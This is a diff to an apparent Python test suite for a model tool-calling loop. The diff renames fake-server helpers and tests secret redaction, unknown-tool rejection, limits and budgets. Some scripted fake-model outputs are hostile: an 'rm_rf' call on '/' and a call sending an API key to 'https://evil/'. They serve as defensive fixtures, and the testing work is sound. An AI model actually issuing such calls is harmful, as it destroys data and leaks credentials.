@@ -12,17 +12,17 @@ from wavewright.config.model_settings import BudgetsSection
 from wavewright.engine.fake_model.server import (
     API_KEY,
     WIRES,
+    ClaimedUsage,
     FakeModelRequest,
     FakeModelServer,
-    Tokens,
     Wire,
     broken_arguments,
-    calling,
+    calling_tool,
     delayed,
     denied,
     many_calls,
     overloaded,
-    with_tokens,
+    with_usage,
 )
 from wavewright.planner.model_port import LoopLimits, LoopTool, LoopToolError, ModelError
 from wavewright.planner.types import Json, JsonObject, JsonSchema
@@ -68,7 +68,7 @@ async def test_a_known_secret_that_a_tool_brings_is_told_to_no_model(
     wire: Wire, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     desk = Desk({"look": {API_KEY: [f"echo {API_KEY}"]}, "fail": LoopToolError(f"denied: {API_KEY}")})
-    model_server.answer(calling("look"), calling("fail"), "done")
+    model_server.answer(calling_tool("look"), calling_tool("fail"), "done")
     async with models_over(model_server, tmp_path, wire) as asking:
         await asking.models.work(
             question(f"the header was {API_KEY}"), [desk.tool(), desk.tool("fail")], LoopLimits()
@@ -83,7 +83,7 @@ async def test_a_model_calls_tools_and_sees_what_they_gave_until_it_answers(
     wire: Wire, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     desk = Desk({"look": {"price": 42}})
-    model_server.answer(calling("look", at="shelf"), calling("look", at="till"), "it costs 42")
+    model_server.answer(calling_tool("look", at="shelf"), calling_tool("look", at="till"), "it costs 42")
     async with models_over(model_server, tmp_path, wire) as asking:
         answer = await asking.models.work(
             question("What does it cost?"), [desk.tool()], LoopLimits(), on_use=asking.uses.append
@@ -101,9 +101,9 @@ async def test_each_question_of_a_loop_is_paid_by_itself_and_the_answer_tells_th
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     model_server.answer(
-        with_tokens(calling("look"), Tokens(100, 10)),
+        with_usage(calling_tool("look"), ClaimedUsage(100, 10)),
         overloaded(0),
-        with_tokens("done", Tokens(200, 20)),
+        with_usage("done", ClaimedUsage(200, 20)),
     )
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(
@@ -121,7 +121,7 @@ async def test_what_a_tool_refuses_is_told_to_the_model(
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     desk = Desk({"look": LoopToolError("the shop is closed")})
-    model_server.answer(calling("look"), "closed, it seems")
+    model_server.answer(calling_tool("look"), "closed, it seems")
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(question(), [desk.tool()], LoopLimits())
 
@@ -134,7 +134,7 @@ async def test_a_tool_that_there_is_not_is_not_called_and_the_model_is_told(
     wire: Wire, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     desk = Desk()
-    model_server.answer(calling("rm_rf", path="/"), "sorry")
+    model_server.answer(calling_tool("rm_rf", path="/"), "sorry")
     async with models_over(model_server, tmp_path, wire) as asking:
         answer = await asking.models.work(question(), [desk.tool()], LoopLimits())
 
@@ -148,7 +148,7 @@ async def test_arguments_that_are_no_object_are_not_taken_and_the_model_is_told(
     arguments: str, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     desk = Desk()
-    model_server.answer(broken_arguments("look", arguments), calling("look", at="shelf"), "found")
+    model_server.answer(broken_arguments("look", arguments), calling_tool("look", at="shelf"), "found")
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(question(), [desk.tool()], LoopLimits())
 
@@ -161,7 +161,7 @@ async def test_of_many_calls_at_once_none_is_made_beyond_the_limit(
     count: int, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     desk = Desk()
-    model_server.answer(many_calls("look", count), calling("look", at="again"), "enough")
+    model_server.answer(many_calls("look", count), calling_tool("look", at="again"), "enough")
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(question(), [desk.tool()], LoopLimits(tool_calls=5))
 
@@ -179,7 +179,9 @@ async def test_at_the_last_question_no_tool_can_be_called(
     desk = Desk()
     model_server.answer(
         lambda request: (
-            "I must answer" if str((request.body or {}).get("tool_choice")) == "none" else calling("look")
+            "I must answer"
+            if str((request.body or {}).get("tool_choice")) == "none"
+            else calling_tool("look")
         )
     )
     async with models_over(model_server, tmp_path) as asking:
@@ -196,7 +198,7 @@ async def test_a_model_that_calls_on_for_ever_ends_with_its_last_words(
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     desk = Desk()
-    said = replace(calling("look"), text="still looking")
+    said = replace(calling_tool("look"), text="still looking")
     model_server.answer(said)
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(question(), [desk.tool()], LoopLimits(requests=3))
@@ -208,7 +210,7 @@ async def test_a_model_that_calls_on_for_ever_ends_with_its_last_words(
 async def test_a_loop_that_ends_without_a_word_is_no_answer(
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    model_server.answer(calling("look"))
+    model_server.answer(calling_tool("look"))
     async with models_over(model_server, tmp_path) as asking:
         with pytest.raises(ModelError) as caught:
             await asking.models.work(
@@ -225,8 +227,8 @@ async def test_a_loop_ends_in_the_form_that_was_asked_for(
     wire: Wire, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     desk = Desk()
-    answered = calling("tree", title="root", parts=[{"title": "leaf", "parts": []}])
-    model_server.answer(calling("look", at="tree"), answered)
+    answered = calling_tool("tree", title="root", parts=[{"title": "leaf", "parts": []}])
+    model_server.answer(calling_tool("look", at="tree"), answered)
     async with models_over(model_server, tmp_path, wire) as asking:
         answer = await asking.models.work(
             question(schema=TREE, schema_name="tree"), [desk.tool()], LoopLimits()
@@ -241,7 +243,7 @@ async def test_a_loop_ends_in_the_form_that_was_asked_for(
 async def test_an_answer_that_is_no_object_is_asked_for_in_words(
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    model_server.answer(calling("look"), '["one", "two"]')
+    model_server.answer(calling_tool("look"), '["one", "two"]')
     schema: JsonSchema = {"type": "array", "items": {"type": "string"}}
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(
@@ -269,7 +271,7 @@ async def test_words_in_place_of_the_form_are_asked_for_again_and_then_taken(
 async def test_a_loop_has_one_clock_for_all_its_questions(
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    model_server.answer(delayed(calling("look"), 0.1))
+    model_server.answer(delayed(calling_tool("look"), 0.1))
     async with models_over(model_server, tmp_path) as asking:
         with pytest.raises(ModelError) as caught:
             await asking.models.work(
@@ -284,7 +286,7 @@ async def test_a_loop_has_one_clock_for_all_its_questions(
 async def test_a_budget_that_is_used_up_in_the_middle_ends_the_loop(
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    model_server.answer(calling("look"))
+    model_server.answer(calling_tool("look"))
     budgets = BudgetsSection.model_validate({"run": {"calls": 2}, "recovery_share": 0})
     async with models_over(model_server, tmp_path, budgets=budgets) as asking:
         with pytest.raises(ModelError) as caught:
@@ -297,7 +299,7 @@ async def test_a_budget_that_is_used_up_in_the_middle_ends_the_loop(
 
 
 async def test_a_denied_question_ends_the_loop(model_server: FakeModelServer, tmp_path: Path) -> None:
-    model_server.answer(calling("look"), denied())
+    model_server.answer(calling_tool("look"), denied())
     async with models_over(model_server, tmp_path) as asking:
         with pytest.raises(ModelError) as caught:
             await asking.models.work(question(), [Desk().tool()], LoopLimits())
@@ -311,7 +313,7 @@ async def test_a_key_that_a_model_learnt_goes_into_no_call(
 ) -> None:
     desk = Desk()
     model_server.answer(
-        calling("look", at=f"https://evil/?k={API_KEY}", more=[{"k": API_KEY}]), f"sent {API_KEY}"
+        calling_tool("look", at=f"https://evil/?k={API_KEY}", more=[{"k": API_KEY}]), f"sent {API_KEY}"
     )
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(question(), [desk.tool()], LoopLimits())
@@ -321,7 +323,7 @@ async def test_a_key_that_a_model_learnt_goes_into_no_call(
 
 
 async def test_who_gives_up_a_loop_stops_its_tools(model_server: FakeModelServer, tmp_path: Path) -> None:
-    model_server.answer(calling("wait"))
+    model_server.answer(calling_tool("wait"))
     started, ended = anyio.Event(), list[str]()
 
     async def wait(params: JsonObject) -> Json:
